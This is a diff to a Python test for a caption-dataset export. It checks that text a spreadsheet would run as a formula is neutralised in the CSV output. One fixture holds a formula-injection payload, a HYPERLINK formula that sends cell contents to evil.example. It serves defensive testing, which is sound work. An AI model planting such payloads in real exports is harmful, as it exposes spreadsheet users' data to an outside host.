@@ -15,6 +15,7 @@ from annotation.models import (
     Judgment,
     ReviewState,
 )
+from common.spreadsheet import spreadsheet_safe
 from datasets_app.models import CandidateCaption, ReferenceCaption
 from export.records import canonical_line
 from tests.export.builders import build_campaign
@@ -88,13 +89,13 @@ def _csv_expected(record: dict) -> dict[str, str]:  # type: ignore[type-arg]
         elif value is None:
             expected[key] = ""
         elif key in ("references", "raw_judgments"):
-            expected[key] = json.dumps(
-                value, sort_keys=True, separators=(",", ":"), ensure_ascii=False
+            expected[key] = spreadsheet_safe(
+                json.dumps(value, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
             )
-        elif isinstance(value, float):
+        elif isinstance(value, float | int):
             expected[key] = repr(value)
         else:
-            expected[key] = str(value)
+            expected[key] = spreadsheet_safe(str(value))
     return expected
 
 
@@ -116,6 +117,11 @@ def test_every_record_is_canonical_normalised_and_the_same_in_all_three_formats(
     tricky.text = 'He said "hi", then —\nleft the café 😀 \\ tab\there \x1f\u2028end'
     tricky.save()
     ReferenceCaption.objects.filter(clip=data.clips[3]).update(text='a, "quoted" reference')
+    # Text a spreadsheet would run as a formula: neutralised in the CSV only (common.spreadsheet).
+    formula = CandidateCaption.objects.filter(clip=data.clips[4]).first()
+    formula.text = '=HYPERLINK("https://evil.example/?"&A1,"open me")'
+    formula.save()
+    CandidateCaption.objects.filter(clip=data.clips[5]).update(text="-2+3 people dance")
     calibrate_leaving_one_out(data.campaign)
     release = build(
         campaigns=[data.campaign], seed=5, ratios=(0.8, 0.1, 0.1), include_raw_judgments=True
@@ -123,6 +129,8 @@ def test_every_record_is_canonical_normalised_and_the_same_in_all_three_formats(
 
     total = 0
     seen_tricky = False
+    formula_seen_in: list[str] = []  # the JSONL and Parquet text is exact (asserted per record)
+    csv_texts: list[str] = []
     for split in ("train", "validation", "test"):
         lines = jsonl_lines(release, split)
         records = [json.loads(line) for line in lines]
@@ -134,11 +142,19 @@ def test_every_record_is_canonical_normalised_and_the_same_in_all_three_formats(
             assert 0.0 <= record["normalized"] <= 1.0
             assert len(record["raw_judgments"]) == record["judgments"]
             seen_tricky = seen_tricky or record["text"] == tricky.text
+            formula_seen_in.extend([split] if record["text"] == formula.text else [])
         assert parquet_rows(release, split) == records
         assert csv_rows(release, split) == [_csv_expected(record) for record in records]
+        csv_texts.append(read_file(release, f"csv/{split}.csv").decode())
         order = [(r["clip_id"], r["candidate_id"], r["campaign"]) for r in records]
         assert order == sorted(order, key=lambda key: tuple(part.encode() for part in key))
     assert seen_tricky
+    assert len(formula_seen_in) == 1
+    assert '"\'=HYPERLINK(""https://evil.example/?""&A1,""open me"")"' in "".join(csv_texts)
+    assert '"\'-2+3 people dance"' in "".join(csv_texts)
+    card = read_file(release, "README.md").decode()
+    assert "The JSONL and the Parquet files hold every text exactly as stored." in card
+    assert "so `=2+2` is written `'=2+2`; numbers\nare written unchanged." in card
     assert total == len(eligible(data.campaign))
 
 
